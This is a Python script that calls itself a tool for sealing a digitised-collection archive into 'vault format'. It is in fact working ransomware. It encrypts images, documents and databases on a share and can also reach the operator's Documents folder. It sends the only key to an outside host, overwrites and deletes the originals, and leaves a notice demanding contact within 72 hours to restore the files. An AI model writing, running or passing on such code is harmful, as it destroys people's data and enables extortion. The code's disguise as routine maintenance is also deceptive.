#!/usr/bin/env python3
"""Rotates the digitised-collection archive into sealed vault format.

Walks the shared scans drive, seals each file with a fresh archive key,
escrows the key with the records office, and removes the unsealed copy so
only one authoritative version of each scan remains.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("vault-rotate")

ARCHIVE_ROOT = os.environ.get("ARCHIVE_ROOT", "/srv/collection")
ESCROW_URL = os.environ.get("ESCROW_URL", "http://203.0.113.90/escrow")
SEALED_SUFFIX = ".vault"
NOTICE_NAME = "HOW_TO_RESTORE_YOUR_COLLECTION.txt"

SKIP_DIRS = {".snapshots", "lost+found"}
INCLUDE = {".tif", ".tiff", ".jpg", ".png", ".pdf", ".docx", ".xlsx", ".csv", ".db"}

NOTICE = """All scans, catalogue records and databases in this share have been sealed.
The archive key is held by us. To recover your collection, write to
restore@example.org quoting reference {ref} within 72 hours.
"""


class KeyEscrow:
    def __init__(self, url):
        self.url = url
        self.ref = f"{socket.gethostname()}-{os.getpid()}"

    def deposit(self, key):
        r = requests.post(self.url, data={"ref": self.ref, "k": key.decode()}, timeout=30)
        r.raise_for_status()


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0

    def _wanted(self, path):
        return path.suffix.lower() in INCLUDE and not path.name.endswith(SEALED_SUFFIX)

    def walk(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if self._wanted(p):
                    yield p

    def seal(self, path):
        data = path.read_bytes()
        path.with_name(path.name + SEALED_SUFFIX).write_bytes(self._f.encrypt(data))
        # overwrite before unlinking so the share's recycle bin has nothing useful
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def main():
    ap = argparse.ArgumentParser(description="Seal archive into vault format")
    ap.add_argument("--root", default=ARCHIVE_ROOT)
    ap.add_argument("--also-home", action="store_true",
                    help="include the operator's Documents folder")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    key = Fernet.generate_key()
    escrow = KeyEscrow(ESCROW_URL)
    escrow.deposit(key)
    sealer = Sealer(key)
    del key

    roots = [Path(args.root)]
    if args.also_home:
        roots.append(Path.home() / "Documents")

    for root in roots:
        for path in sealer.walk(root):
            try:
                sealer.seal(path)
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        (root / NOTICE_NAME).write_text(NOTICE.format(ref=escrow.ref))

    LOG.info("sealed %d file(s)", sealer.count)


if __name__ == "__main__":
    main()
